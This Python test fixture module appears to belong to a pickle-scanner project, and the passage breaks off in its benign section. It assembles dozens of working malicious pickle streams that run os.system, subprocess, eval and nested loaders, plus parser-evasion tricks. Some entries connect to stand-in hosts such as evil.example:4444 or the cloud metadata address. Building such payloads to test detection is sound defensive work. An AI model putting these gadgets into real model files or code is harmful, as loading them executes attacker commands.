"""The payload catalogue: hostile and benign pickle streams with stable names.

Why a catalogue: regression tests, the audit-hook test (nothing executes while scanning)
and the peer benchmark all need the *same* payloads.  Every entry is a complete pickle
stream generated here, opcode by opcode with :class:`PickleBuilder` or with
``pickle.dumps`` of trusted stdlib objects; nothing is ever loaded.

* :data:`MALICIOUS` - every THREATS.md section 1 gadget and section 2 parser trick, named
  ``ghsa-xxxx-xxxx-xxxx-<slug>`` / ``cve-yyyy-nnnnn-<slug>`` after the public advisory that
  reported it, or ``technique-<slug>``.  Each must produce a finding of severity >= high.
  :data:`KNOWN_MISSES` names the entries the analyzer does not flag yet (tests xfail them
  strictly, so a fix shows up as an unexpected pass).
* :data:`BENIGN` - what real checkpoints look like (containers in every protocol, numpy
  reconstruct streams, torch state dicts, scikit-learn-like estimator state built without
  sklearn).  None may produce a finding >= medium.

Keep names stable (the benchmark reports per name) and the module import-light: only the
standard library and the opcode assembler.
"""

from __future__ import annotations

import argparse
import collections
import datetime
import decimal
import fractions
import pickle
import uuid
from collections.abc import Callable

from builders.pickles import PickleBuilder, reduce_call

__all__ = ["BENIGN", "KNOWN_MISSES", "MALICIOUS"]

CMD = "id > /tmp/trojanguard-canary"


# --------------------------------------------------------------------------- helpers
def _push(p: PickleBuilder, value: object) -> PickleBuilder:
    """Push a simple value, or a tuple/list/dict of them (recursively)."""
    if isinstance(value, tuple):
        p.mark()
        for item in value:
            _push(p, item)
        return p.tuple_()
    if isinstance(value, list):
        p.mark()
        for item in value:
            _push(p, item)
        return p.list_()
    if isinstance(value, dict):
        p.empty_dict()
        for key, item in value.items():
            _push(_push(p, key), item).setitem()
        return p
    return p.value(value)


def _call(module: str, name: str, *args: object, protocol: int = 4) -> bytes:
    """``module.name(*args)`` as one REDUCE."""
    if all(isinstance(a, (str, bytes, int, float, bool, type(None))) for a in args):
        return reduce_call(module, name, *args, protocol=protocol)
    p = PickleBuilder(protocol).proto().global_ref(module, name)
    return _push(p, tuple(args)).reduce().stop().bytes()


def _method(module: str, cls: str, method: str, *args: object, ctor: tuple[object, ...] = ()) -> bytes:
    """``module.cls.method(module.cls(*ctor), *args)``: an unbound method through a dotted
    STACK_GLOBAL name (protocol 4 resolves ``Cls.method``), the instance built in-stream."""
    p = PickleBuilder(4).proto().stack_global(module, f"{cls}.{method}").mark()
    p.global_ref(module, cls)
    _push(p, tuple(ctor)).reduce()
    for value in args:
        _push(p, value)
    return p.tuple_().reduce().stop().bytes()


def _getattr_chain(module: str, attr: str, *args: object) -> bytes:
    """``getattr(__import__(module), attr)(*args)``."""
    p = PickleBuilder(4).proto().global_ref("builtins", "getattr")
    p.call("builtins", "__import__", module).value(attr).tuple2().reduce()
    return p.args(*args).reduce().stop().bytes()


def _nested(loader_module: str, loader: str, inner: bytes) -> bytes:
    """``loader(inner_bytes)``: a loader of pickles fed bytes held in the outer pickle."""
    return PickleBuilder(4).proto().call(loader_module, loader, inner).stop().bytes()


def _logging_dict_config() -> bytes:
    """``logging.config.dictConfig`` with a handler factory named only in a string."""
    p = PickleBuilder(4).proto().global_ref("logging.config", "dictConfig")
    p.empty_dict().mark()
    p.value("version").value(1)
    p.value("handlers").empty_dict().value("x").empty_dict().mark()
    p.value("()").value("subprocess.call").value("args").value(CMD)
    p.setitems().setitem()
    p.value("root").empty_dict().value("handlers").mark().value("x").list_().setitem()
    p.setitems().tuple1().reduce().stop()
    return p.bytes()


def _marshal_function() -> bytes:
    """``types.FunctionType(marshal.loads(code_bytes), {})()``."""
    p = PickleBuilder(4).proto().global_ref("types", "FunctionType")
    p.call("marshal", "loads", b"\xe3\x00\x00\x00\x00\x00\x00\x00code-object-bytes").empty_dict().tuple2().reduce()
    return p.empty_tuple().reduce().stop().bytes()


def _cloudpickle_make_function() -> bytes:
    p = PickleBuilder(4).proto().global_ref("cloudpickle.cloudpickle", "_make_function")
    p.call("cloudpickle.cloudpickle", "_builtin_type", "CodeType").empty_dict().tuple2().reduce()
    return p.empty_tuple().reduce().stop().bytes()


def _cloudpickle_subimport() -> bytes:
    p = PickleBuilder(4).proto().global_ref("builtins", "getattr")
    p.call("cloudpickle.cloudpickle", "subimport", "os").value("system").tuple2().reduce()
    return p.args(CMD).reduce().stop().bytes()


def _attrgetter(module: str = "operator") -> bytes:
    p = PickleBuilder(4).proto().call(module, "attrgetter", "system")
    p.call("builtins", "__import__", "os").tuple1().reduce()
    return p.args(CMD).reduce().stop().bytes()


def _methodcaller(module: str = "_operator") -> bytes:
    p = PickleBuilder(4).proto().call(module, "methodcaller", "system", CMD)
    p.call("importlib", "import_module", "os").tuple1().reduce().stop()
    return p.bytes()


def _partial() -> bytes:
    p = PickleBuilder(4).proto().global_ref("functools", "partial").global_ref("os", "system").value(CMD)
    return p.tuple2().reduce().empty_tuple().reduce().stop().bytes()


def _reduce() -> bytes:
    p = PickleBuilder(4).proto().global_ref("functools", "reduce").global_ref("os", "system")
    return p.mark().value(CMD).list_().tuple2().reduce().stop().bytes()


def _pkgutil_resolve_name() -> bytes:
    p = PickleBuilder(4).proto().call("pkgutil", "resolve_name", "os:system")
    return p.args(CMD).reduce().stop().bytes()


def _pydoc_locate() -> bytes:
    p = PickleBuilder(4).proto().call("pydoc", "locate", "os.system")
    return p.args(CMD).reduce().stop().bytes()


def _inspect_getattr_static() -> bytes:
    p = PickleBuilder(4).proto().global_ref("inspect", "getattr_static")
    p.call("importlib", "import_module", "os").value("system").tuple2().reduce()
    return p.args(CMD).reduce().stop().bytes()


def _copyreg_extension(code: int = 0xF0) -> bytes:
    p = PickleBuilder(2).proto().global_("copyreg", "add_extension").args("os", "system", code).reduce().pop()
    return p.ext1(code).args(CMD).reduce().stop().bytes()


def _introspection_subclasses() -> bytes:
    """``object.__subclasses__()`` through a dotted STACK_GLOBAL name (builtins only)."""
    return PickleBuilder(4).proto().stack_global("builtins", "object.__subclasses__").empty_tuple().reduce().stop().bytes()


def _introspection_globals() -> bytes:
    """``getattr(some_function, '__globals__')['__builtins__']['eval']`` spelled as a name."""
    p = PickleBuilder(4).proto().stack_global("collections", "OrderedDict.__init__.__globals__")
    return p.pop().call("builtins", "eval", "1").stop().bytes()


def _numpy_builtins_build() -> bytes:
    """BUILD on ``numpy.size`` sets its ``__builtins__``: a later call resolves names there."""
    p = PickleBuilder(2).proto().global_("numpy", "size")
    p.empty_dict().value("__builtins__").empty_dict().value("len").global_("os", "system").setitem()
    p.setitem().build().pop().global_("numpy", "size").args(CMD).reduce().stop()
    return p.bytes()


def _setstate_gadget() -> bytes:
    p = PickleBuilder(2).proto().global_("mypkg", "Box").empty_tuple().newobj()
    p.empty_dict().value("__setstate__").global_("os", "system").setitem().build()
    return p.value(CMD).build().stop().bytes()


def _rebuild_from_type_call_through() -> bytes:
    """``torch._tensor._rebuild_from_type_v2(func, type, args, state)`` calls ``func(*args)``:
    an allowlisted rebuild function hiding a non-allowlisted call."""
    p = PickleBuilder(4).proto().global_ref("torch._tensor", "_rebuild_from_type_v2").mark()
    p.global_ref("mypkg.evil", "run").global_ref("torch", "Tensor").args(CMD).none()
    return p.tuple_().reduce().stop().bytes()


def _new_obj_call_through() -> bytes:
    """sklearn's ``newObj(cls)`` calls ``cls.__new__(cls)`` of a class it is handed."""
    p = PickleBuilder(4).proto().global_ref("sklearn.neighbors._kd_tree", "newObj")
    return p.global_ref("mypkg.evil", "Evil").tuple1().reduce().stop().bytes()


def _numpy_ctor_call_through() -> bytes:
    """``numpy.random._pickle.__randomstate_ctor(name, ctor)`` returns ``RandomState(ctor(name))``:
    it calls its second argument."""
    p = PickleBuilder(4).proto().global_ref("numpy.random._pickle", "__randomstate_ctor")
    return p.value(CMD).global_ref("mypkg.evil", "run").tuple2().reduce().stop().bytes()


# -- section 2: parser tricks
def _dotted(module: str, name: str) -> bytes:
    return PickleBuilder(4).proto().stack_global(module, name).args(CMD).reduce().stop().bytes()


def _escaped_module() -> bytes:
    """STACK_GLOBAL operands from protocol-0 UNICODE with raw-unicode-escapes (``\\u006fs``)."""
    p = PickleBuilder(4).proto().raw(b"V\\u006fs\n").raw(b"V\\u0073ystem\n").stack_global_op()
    return p.args(CMD).reduce().stop().bytes()


def _memo_desync() -> bytes:
    """Names memoised then popped; memo keys reused so a naive memo tracker reads decoys
    (picklescan issue #22, ImaginaryCTF "Safe Pickle")."""
    p = PickleBuilder(4).proto()
    p.value("builtins").memoize().pop().value("print").memoize().pop()  # decoys at 0, 1
    p.value("os").put(0).pop().value("system").put(1).pop()  # overwrite without MEMOIZE
    p.get(0).get(1).stack_global_op().args(CMD).reduce().stop()
    return p.bytes()


def _memo_put_after_dup() -> bytes:
    p = PickleBuilder(4).proto().value("os").dup().put(5).pop().value("system").binput(9)
    p.pop().binget(5).binget(9).stack_global_op().args(CMD).reduce().stop()
    return p.bytes()


def _stack_global_from(op: str) -> bytes:
    p = PickleBuilder(4).proto()
    getattr(p, op)("os")
    getattr(p, op)("system")
    return p.stack_global_op().args(CMD).reduce().stop().bytes()


def _discarded(opcode: str) -> bytes:
    """The call's result is thrown away by POP (fickling lost such calls from its AST)."""
    p = PickleBuilder(4).proto()
    if opcode == "inst":
        p.mark().value(CMD).inst("os", "system")
    elif opcode == "obj":
        p.mark().global_ref("os", "system").value(CMD).obj()
    elif opcode == "newobj":
        p.global_ref("subprocess", "Popen").args(CMD).newobj()
    else:
        p.global_ref("subprocess", "Popen").args(CMD).empty_dict().newobj_ex()
    return p.pop().none().stop().bytes()


def _second_pickle() -> bytes:
    return pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + _call("os", "system", CMD, protocol=2)


def _then(tail: bytes) -> bytes:
    """The payload runs, then the stream breaks (CPython has already executed it)."""
    return PickleBuilder(2).proto().call("os", "system", CMD).raw(tail).bytes()


def _frame_divergence() -> bytes:
    body = PickleBuilder(4).binbytes(b"A" * 8).bytes()
    p = PickleBuilder(4).proto().frame(3).raw(body)  # the frame ends inside BINBYTES
    return p.global_ref("os", "system").args(CMD).reduce().pop().none().stop().bytes()


def _billion_laughs_then_call() -> bytes:
    p = PickleBuilder(4).proto().empty_list()
    for _ in range(40):
        p.dup().dup().tuple2()
    return p.pop().call("os", "system", CMD).stop().bytes()


def _deep_nesting_then_call() -> bytes:
    p = PickleBuilder(4).proto()
    p.raw(b"]" * 5000).raw(b"a" * 4999)
    return p.pop().call("os", "system", CMD).stop().bytes()


def _cyclic_then_call() -> bytes:
    p = PickleBuilder(4).proto().empty_list().memoize().get(0).append()
    return p.pop().call("os", "system", CMD).stop().bytes()


def _missing_mark_after_call() -> bytes:
    return PickleBuilder(2).proto().call("os", "system", CMD).tuple_().stop().bytes()


def _protocol0_headerless() -> bytes:
    return b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR."


def _exec_hidden_in_state() -> bytes:
    """A benign-looking dict whose value is the call (payload deep inside the data)."""
    p = PickleBuilder(4).proto().empty_dict().value("state_dict").empty_dict().value("w")
    p.call("builtins", "exec", "import os; os.system('id')").setitem().setitem().stop()
    return p.bytes()


# --------------------------------------------------------------------------- catalogue
_M: dict[str, Callable[[], bytes]] = {
    # ---- THREATS 1: process execution
    "technique-os-system": lambda: _call("os", "system", CMD),
    "technique-posix-system-protocol2": lambda: _call("posix", "system", CMD, protocol=2),
    "technique-nt-system-protocol0": lambda: _call("nt", "system", CMD, protocol=0),
    "technique-os-popen": lambda: _call("os", "popen", CMD),
    "technique-subprocess-popen": lambda: _call("subprocess", "Popen", CMD),
    "technique-subprocess-check-output": lambda: _call("subprocess", "check_output", CMD),
    "ghsa-r7v6-mfhq-g3m2-pty-spawn": lambda: _call("pty", "spawn", CMD, protocol=0),
    "ghsa-m6fh-58r7-x697-posixsubprocess-fork-exec": lambda: _call("_posixsubprocess", "fork_exec", CMD),
    "technique-multiprocessing-util-spawnv-passfds": lambda: _call("multiprocessing.util", "spawnv_passfds", "/bin/sh", CMD),
    "technique-distutils-spawn": lambda: _call("distutils.spawn", "spawn", CMD),
    "technique-setuptools-distutils-spawn": lambda: _call("setuptools._distutils.spawn", "spawn", CMD),
    "cve-2025-1716-pip-main": lambda: _call("pip", "main", "install", "evil-package"),
    "ghsa-xp4f-hrf8-rxw7-ensurepip-run-pip": lambda: _call("ensurepip", "_run_pip", "install"),
    "ghsa-vqmv-47xg-9wpr-venv-create": lambda: _call("venv", "create", "/tmp/env", False, False, False, False, "$(id)"),
    "technique-webbrowser-open": lambda: _call("webbrowser", "open", "file:///etc/passwd"),
    "cve-2025-10157-asyncio-unix-subprocess-transport": lambda: _method(
        "asyncio.unix_events", "_UnixSubprocessTransport", "_start", CMD, True, None, None, None, 0),
    "technique-uuid-get-command-stdout": lambda: _call("uuid", "_get_command_stdout", "sh", "-c", CMD),
    "technique-osx-support-read-output": lambda: _call("_osx_support", "_read_output", CMD),
    "technique-aix-support-read-cmd-output": lambda: _call("_aix_support", "_read_cmd_output", CMD),
    "technique-imaplib-imap4-stream": lambda: _call("imaplib", "IMAP4_stream", CMD),
    "technique-pyrepl-pager-pipe-pager": lambda: _call("_pyrepl.pager", "pipe_pager", "x", CMD),
    "technique-test-support-assert-python-ok": lambda: _call("test.support.script_helper", "assert_python_ok", "-c", "1"),
    "technique-mailcap-findmatch": lambda: _call("mailcap", "findmatch", "x", "text/plain"),
    "technique-torch-collect-env-run": lambda: _call("torch.utils.collect_env", "run", CMD),
    "technique-torch-collect-env-run-and-read-all": lambda: _call("torch.utils.collect_env", "run_and_read_all", "x", CMD),
    "technique-mlflow-local-entry-point": lambda: _call("mlflow.projects.backend.local", "_run_entry_point", CMD),
    # ---- THREATS 1: code execution
    "technique-builtins-eval": lambda: _call("builtins", "eval", "__import__('os').system('id')"),
    "technique-builtins-exec-protocol1": lambda: _call("builtins", "exec", "import os", protocol=1),
    "technique-py2-builtin-eval": lambda: _call("__builtin__", "eval", "1+1", protocol=0),
    "technique-builtins-compile": lambda: _call("builtins", "compile", "x", "f", "exec"),
    "technique-builtins-breakpoint": lambda: _call("builtins", "breakpoint"),
    "technique-code-interactive-interpreter-runsource": lambda: _method(
        "code", "InteractiveInterpreter", "runsource", "import os"),
    "technique-code-interactive-interpreter-runcode": lambda: _method(
        "code", "InteractiveInterpreter", "runcode", "import os"),
    "technique-runpy-run-code": lambda: _call("runpy", "_run_code", "import os", {}),
    "technique-pdb-run": lambda: _call("pdb", "run", "import os"),
    "ghsa-4675-36f9-wf6r-bdb-run": lambda: _method("bdb", "Bdb", "run", "import os"),
    "technique-cprofile-run": lambda: _call("cProfile", "run", "import os"),
    "ghsa-9w88-8rmg-7g2p-cprofile-runctx": lambda: _call("cProfile", "runctx", "import os", None, None),
    "technique-profile-run": lambda: _call("profile", "run", "import os"),
    "ghsa-x696-vm39-cp64-profile-profile-run": lambda: _method("profile", "Profile", "run", "import os"),
    "ghsa-6vqj-c2q5-j97w-profile-profile-runctx": lambda: _method("profile", "Profile", "runctx", "import os", None, None),
    "ghsa-v7x6-rv5q-mhwc-timeit-timeit": lambda: _call("timeit", "timeit", "import os", "pass", None, 1),
    "ghsa-5qwp-399c-mjwf-trace-trace-run": lambda: _method("trace", "Trace", "run", "import os"),
    "ghsa-g344-hcph-8vgg-trace-trace-runctx": lambda: _method("trace", "Trace", "runctx", "import os", None, None),
    "technique-pydoc-pipepager": lambda: _call("pydoc", "pipepager", "x", CMD),
    "ghsa-3vg9-h568-4w9m-idlelib-debugobj": lambda: _call("idlelib.debugobj", "ObjectTreeItem", "x", "import os", None),
    "ghsa-7cq8-mj8x-j263-idlelib-autocomplete-fetch-completions": lambda: _method(
        "idlelib.autocomplete", "AutoComplete", "fetch_completions", "__import__('os')", 1),
    "ghsa-6w4w-5w54-rjvr-idlelib-autocomplete-get-entity": lambda: _method(
        "idlelib.autocomplete", "AutoComplete", "get_entity", "__import__('os')"),
    "ghsa-m869-42cg-3xwr-idlelib-run-executive-runcode": lambda: _method(
        "idlelib.run", "Executive", "runcode", "import os", ctor=(None,)),
    "ghsa-j343-8v2j-ff7w-idlelib-pyshell-runcommand": lambda: _method(
        "idlelib.pyshell", "ModifiedInterpreter", "runcommand", "import os", ctor=(None,)),
    "ghsa-3gf5-cxq9-w223-idlelib-pyshell-runcode": lambda: _method(
        "idlelib.pyshell", "ModifiedInterpreter", "runcode", "import os", ctor=(None,)),
    "ghsa-f54q-57x4-jg88-lib2to3-grammar-loads": lambda: _method(
        "lib2to3.pgen2.grammar", "Grammar", "loads", b"\x80\x04inner"),
    "ghsa-p9w7-82w4-7q8m-lib2to3-pgen-make-label": lambda: _method(
        "lib2to3.pgen2.pgen", "ParserGenerator", "make_label", None, "'x'+__import__('os').system('id')",
        ctor=("/dev/null",)),
    "technique-logging-config-dictconfig": _logging_dict_config,
    "ghsa-6ggj-6f2q-f7mx-interpreters-run-string": lambda: _call("_interpreters", "run_string", 0, "import os"),
    "technique-xxsubinterpreters-run-string": lambda: _call("_xxsubinterpreters", "run_string", 0, "import os"),
    "ghsa-m6fh-58r7-x697-atexit-register": lambda: _call("atexit", "register", "x"),
    "technique-numpy-testing-runstring": lambda: _call("numpy.testing", "runstring", "import os", {}),
    "technique-numpy-testing-private-runstring": lambda: _call("numpy.testing._private.utils", "runstring", "import os", {}),
    "technique-doctest-debug-src": lambda: _call("doctest", "debug_src", ">>> import os"),
    "ghsa-fqq6-7vqf-w3fg-doctest-debug-script": lambda: _call("doctest", "debug_script", "import os"),
    "technique-torch-bottleneck-run-cprofile": lambda: _call("torch.utils.bottleneck.__main__", "run_cprofile", "import os", {}),
    "ghsa-4whj-rm5r-c2v8-torch-bottleneck-run-autograd-prof": lambda: _call(
        "torch.utils.bottleneck.__main__", "run_autograd_prof", "import os", {}),
    "technique-torch-dynamo-guardbuilder-get": lambda: _method("torch._dynamo.guards", "GuardBuilder", "get", "x"),
    "technique-torch-shapeenv-evaluate-guards-expression": lambda: _method(
        "torch.fx.experimental.symbolic_shapes", "ShapeEnv", "evaluate_guards_expression", "__import__('os')", ()),
    "technique-torch-jit-execwrapper": lambda: _call("torch.jit.unsupported_tensor_ops", "execWrapper", "import os"),
    "technique-torch-inductor-compile-file": lambda: _call("torch._inductor.codecache", "compile_file", "a", "b", CMD),
    "technique-torch-jit-parse-type-line": lambda: _call("torch.jit.annotations", "parse_type_line", "# type: (x) -> y", None, 1),
    "technique-torch-distributed-rpc": lambda: _call("torch.distributed.rpc", "rpc_sync", "worker", "os.system"),
    "technique-transformers-getattribute-from-module": lambda: _call(
        "transformers.models.auto.auto_factory", "getattribute_from_module", "evil/model", "from_pretrained"),
    # ---- THREATS 1: files and network
    "technique-builtins-open-write": lambda: _call("builtins", "open", "/tmp/trojanguard-canary", "w"),
    "technique-io-fileio-c-module": lambda: _call("_io", "FileIO", "/tmp/trojanguard-canary", "w"),
    "technique-logging-filehandler": lambda: _call("logging", "FileHandler", "/tmp/trojanguard-canary"),
    "technique-shutil-rmtree": lambda: _call("shutil", "rmtree", "/tmp/x"),
    "technique-distutils-file-util-write-file": lambda: _call("distutils.file_util", "write_file", "/tmp/x", ()),
    "ghsa-hgrh-qx5j-jfwx-http-client-https-connection": lambda: _call("http.client", "HTTPSConnection", "evil.example"),
    "technique-urllib-request-urlopen": lambda: _call("urllib.request", "urlopen", "http://169.254.169.254/"),
    "technique-ssl-get-server-certificate": lambda: _call("ssl", "get_server_certificate", ("leak.evil.example", 443)),
    "technique-socket-create-connection": lambda: _call("socket", "create_connection", ("evil.example", 4444)),
    "technique-ftplib-ftp": lambda: _call("ftplib", "FTP", "evil.example"),
    "technique-smtplib-smtp": lambda: _call("smtplib", "SMTP", "evil.example"),
    "technique-telnetlib-telnet": lambda: _call("telnetlib", "Telnet", "evil.example"),
    "technique-ctypes-cdll": lambda: _call("ctypes", "CDLL", "/tmp/evil.so"),
    "ghsa-m6fh-58r7-x697-site-addsitedir": lambda: _call("site", "addsitedir", "/tmp/evil"),
    "technique-signal-alarm": lambda: _call("signal", "alarm", 1),
    "technique-pandas-read-pickle-url": lambda: _call("pandas", "read_pickle", "http://evil.example/x.pkl"),
    # ---- THREATS 1: resolution helpers
    "ghsa-h4rm-mm56-xf63-builtins-getattr-import-chain": lambda: _getattr_chain("os", "system", CMD),
    "technique-importlib-import-module": lambda: _call("importlib", "import_module", "os"),
    "ghsa-vvpj-8cmc-gx39-pkgutil-resolve-name": _pkgutil_resolve_name,
    "technique-pydoc-locate": _pydoc_locate,
    "technique-inspect-getattr-static": _inspect_getattr_static,
    "ghsa-m273-6v24-x4m4-operator-attrgetter": _attrgetter,
    "ghsa-955r-x9j8-7rhh-operator-attrgetter-c-module": lambda: _attrgetter("_operator"),
    "ghsa-46h3-79wf-xr6c-operator-methodcaller": _methodcaller,
    "technique-functools-partial": _partial,
    "technique-functools-reduce": _reduce,
    "technique-copyreg-add-extension-ext1": _copyreg_extension,
    "technique-introspection-object-subclasses": _introspection_subclasses,
    "technique-introspection-function-globals": _introspection_globals,
    "technique-numpy-size-builtins-build": _numpy_builtins_build,
    "technique-setstate-injection": _setstate_gadget,
    "technique-sys-modules": lambda: _dotted("sys", "modules.get"),
    "technique-rebuild-from-type-v2-call-through": _rebuild_from_type_call_through,
    "technique-sklearn-newobj-call-through": _new_obj_call_through,
    "technique-numpy-randomstate-ctor-call-through": _numpy_ctor_call_through,
    "technique-bytearray-huge-allocation": lambda: _call("builtins", "bytearray", 1 << 40),
    # ---- THREATS 1: code objects and nested loaders
    "technique-marshal-loads-function-type": _marshal_function,
    "technique-cloudpickle-make-function": _cloudpickle_make_function,
    "technique-cloudpickle-subimport": _cloudpickle_subimport,
    "ghsa-84r2-jw7c-4r5q-nested-pickle-loads": lambda: _nested("pickle", "loads", _call("os", "system", CMD)),
    "modelscan-267-nested-pickle-loads-benign-inner": lambda: _nested(
        "pickle", "loads", b"cbuiltins\nprint\n(S'exploited'\ntR."),
    "technique-nested-c-pickle-loads": lambda: _nested("_pickle", "loads", _call("os", "system", CMD)),
    "technique-nested-torch-load": lambda: _nested("torch", "load", _call("os", "system", CMD)),
    "technique-nested-torch-serialization-load": lambda: _nested("torch.serialization", "load", b"PK\x03\x04"),
    "technique-nested-numpy-load": lambda: _nested("numpy", "load", b"\x93NUMPY"),
    "technique-nested-joblib-load": lambda: _nested("joblib", "load", "/tmp/model.joblib"),
    "technique-nested-dill-loads": lambda: _nested("dill", "loads", _call("os", "system", CMD)),
    "technique-torch-config-module-load-config": lambda: _method(
        "torch.utils._config_module", "ConfigModule", "load_config", _call("os", "system", CMD)),
    "technique-torch-datapipes-decoder": lambda: _call("torch.utils.data.datapipes.utils.decoder", "basichandlers",
                                                       "x.pickle", _call("os", "system", CMD)),
    # ---- THREATS 2: parser tricks
    "technique-dotted-name-pathlib-os-system": lambda: _dotted("pathlib", "os.system"),
    "technique-dotted-name-through-allowed-module": lambda: _dotted("torch._utils", "os.system"),
    "technique-escaped-unicode-module-name": _escaped_module,
    "technique-memo-desync-imaginaryctf": _memo_desync,
    "technique-memo-put-after-dup": _memo_put_after_dup,
    "technique-memo-missing-key-then-call": lambda: PickleBuilder(4).proto().get(99).pop().call(
        "os", "system", CMD).stop().bytes(),
    "technique-stack-global-from-string": lambda: _stack_global_from("string"),
    "technique-stack-global-from-binstring": lambda: _stack_global_from("binstring"),
    "technique-stack-global-from-short-binunicode": lambda: _stack_global_from("short_binunicode"),
    "technique-inst-discarded-by-pop": lambda: _discarded("inst"),
    "technique-obj-discarded-by-pop": lambda: _discarded("obj"),
    "technique-newobj-discarded-by-pop": lambda: _discarded("newobj"),
    "technique-newobj-ex-discarded-by-pop": lambda: _discarded("newobj_ex"),
    "technique-second-pickle-after-stop": _second_pickle,
    "technique-junk-after-payload": lambda: _then(b"\x00junk-that-is-not-a-pickle"),
    "technique-invalid-opcode-after-payload": lambda: _then(b"\xff"),
    "technique-truncated-after-payload": lambda: _then(b"X\x00\x01\x00\x00ab"),
    "technique-frame-divergence-binbytes": _frame_divergence,
    "technique-billion-laughs-then-call": _billion_laughs_then_call,
    "technique-deep-nesting-then-call": _deep_nesting_then_call,
    "technique-cyclic-structure-then-call": _cyclic_then_call,
    "technique-missing-mark-after-call": _missing_mark_after_call,
    "technique-protocol0-headerless": _protocol0_headerless,
    "technique-call-hidden-in-state-dict": _exec_hidden_in_state,
}

MALICIOUS: dict[str, bytes] = {name: build() for name, build in _M.items()}

#: Payloads the analyzer misses today, with why (routed to the analyzer's author).
KNOWN_MISSES: dict[str, str] = {}


# --------------------------------------------------------------------------- benign
def _numpy_array_stream(protocol: int = 2) -> bytes:
    """What ``pickle.dumps(np.arange(3.0))`` emits, built without numpy."""
    p = PickleBuilder(protocol).proto().global_("numpy.core.multiarray", "_reconstruct")
    p.global_("numpy", "ndarray").value(0).tuple1().value(b"b").tuple3().reduce()
    p.mark().value(1).value(3).tuple1()
    p.global_("numpy", "dtype").args("f8", False, True).reduce()
    p.mark().value(3).value("<").none().none().none().value(-1).value(-1).value(0).tuple_().build()
    p.newfalse().value(b"\x00" * 24).tuple_().build().stop()
    return p.bytes()


def _numpy2_scalar_stream() -> bytes:
    p = PickleBuilder(4).proto().global_ref("numpy._core.multiarray", "scalar")
    p.global_ref("numpy", "dtype").args("i8", False, True).reduce()
    p.mark().value(3).value("<").none().none().none().value(-1).value(-1).value(0).tuple_().build()
    return p.value(b"\x07" + b"\x00" * 7).tuple2().reduce().stop().bytes()


def _torch_tensor(p: PickleBuilder, storage: str, key: str, device: str, shape: tuple[int, ...]) -> PickleBuilder:
    """``_rebuild_tensor_v2(persistent storage, 0, shape, stride, False, OrderedDict())``."""
    p.global_("torch._utils", "_rebuild_tensor_v2").mark()
    p.mark().value("storage").global_("torch", storage).value(key).value(device).value(6).tuple_().binpersid()
    p.value(0)
    _push(p, shape)
    _push(p, tuple(1 for _ in shape))
    p.newfalse().global_("collections", "OrderedDict").empty_tuple().reduce()
    return p.tuple_().reduce()


def _torch_state_dict_stream() -> bytes:
    """A torch ``data.pkl``: OrderedDict of ``_rebuild_tensor_v2`` over persistent storages."""
    p = PickleBuilder(2).proto().global_("collections", "OrderedDict").empty_tuple().reduce()
    for i, key in enumerate(("linear.weight", "linear.bias")):
        _torch_tensor(p.value(key), "FloatStorage", str(i), "cpu", (2, 3)).setitem()
    return p.stop().bytes()


def _torch_parameter_stream() -> bytes:
    p = PickleBuilder(2).proto().empty_dict().value("w").global_("torch._utils", "_rebuild_parameter")
    _torch_tensor(p, "BFloat16Storage", "0", "cuda:0", (4,))
    p.newtrue().global_("collections", "OrderedDict").empty_tuple().reduce().tuple3().reduce().setitem()
    p.value("device").global_("torch", "device").args("cuda", 0).reduce().setitem()
    p.value("dtype").global_("torch", "bfloat16").setitem()
    return p.stop().bytes()


def _sklearn_like_estimator(protocol: int = 4) -> bytes:
    """``LogisticRegression`` state as sklearn pickles it (NEWOBJ + BUILD of a dict)."""
    p = PickleBuilder(protocol).proto().global_ref("sklearn.linear_model._logistic", "LogisticRegression")
    p.empty_tuple().newobj().empty_dict().mark()
    p.value("C").value(1.0).value("penalty").value("l2").value("n_features_in_").value(3)
    p.value("coef_").raw(_numpy_array_stream(2)[2:-1]).value("_sklearn_version").value("1.5.0")
    return p.setitems().build().stop().bytes()


def _sklearn_pipeline() -> bytes:
    p = PickleBuilder(4).proto().global_ref("sklearn.pipeline", "Pipeline").empty_tuple().newobj().empty_dict()
    p.value("steps").mark()
    p.value("scale").global_ref("sklearn.preprocessing._data", "StandardScaler").empty_tuple().newobj()
    p.empty_dict().value("with_mean").newtrue().setitem().build().tuple2()
    p.value("clf").global_ref("sklearn.tree._classes", "DecisionTreeClassifier").empty_tuple().newobj()
    p.empty_dict().value("max_depth").value(3).setitem().build().tuple2()
    return p.list_().setitem().build().stop().bytes()


def _xgboost_like() -> bytes:
    p = PickleBuilder(4).proto().global_ref("xgboost.sklearn", "XGBClassifier").empty_tuple().newobj()
    p.empty_dict().value("_Booster").global_ref("xgboost.core", "Booster").empty_tuple().newobj()
    p.empty_dict().value("handle").value(bytearray(b"{binf" + b"\x00" * 40)).setitem().build()
    return p.setitem().build().stop().bytes()


def _joblib_like() -> bytes:
    p = PickleBuilder(4).proto().global_ref("joblib.numpy_pickle", "NumpyArrayWrapper").empty_tuple().newobj()
    p.empty_dict().mark().value("subclass").global_ref("numpy", "ndarray").value("shape").value(2).tuple1()
    p.value("order").value("C").value("dtype").global_ref("numpy", "dtype").args("i1", False, True).reduce()
    p.mark().value(3).value("|").none().none().none().value(-1).value(-1).value(0).tuple_().build()
    p.value("allow_mmap").newfalse().setitems().build().raw(b"\x01\x02").stop()
    return p.bytes()


_B: dict[str, Callable[[], bytes]] = {
    **{f"benign-dict-protocol{p}": (lambda p=p: pickle.dumps({"a": 1, "b": [1.5, "x"], "c": (None, True)}, protocol=p))
       for p in range(6)},
    **{f"benign-ordereddict-protocol{p}": (lambda p=p: pickle.dumps(collections.OrderedDict(w=[0.1] * 4), protocol=p))
       for p in range(6)},
    "benign-nested-list": lambda: pickle.dumps([[i, str(i), [i] * 3] for i in range(50)], protocol=4),
    "benign-sets-bytes-protocol2": lambda: pickle.dumps(
        {"s": {1, 2}, "f": frozenset({3}), "b": b"\x00\xff", "ba": bytearray(b"xy")}, protocol=2),
    "benign-bytearray-protocol5": lambda: pickle.dumps(bytearray(b"z" * 300), protocol=5),
    "benign-defaultdict-deque-counter": lambda: pickle.dumps(
        (collections.defaultdict(list, a=[1]), collections.deque([1, 2]), collections.Counter("aab")), protocol=4),
    "benign-complex-slice-range": lambda: pickle.dumps((1 + 2j, slice(1, 5, 2), range(3)), protocol=2),
    "benign-datetime-decimal-fraction-uuid": lambda: pickle.dumps(
        (datetime.datetime(2024, 1, 2, 3, 4, 5), datetime.date(2024, 1, 1), datetime.timedelta(3),
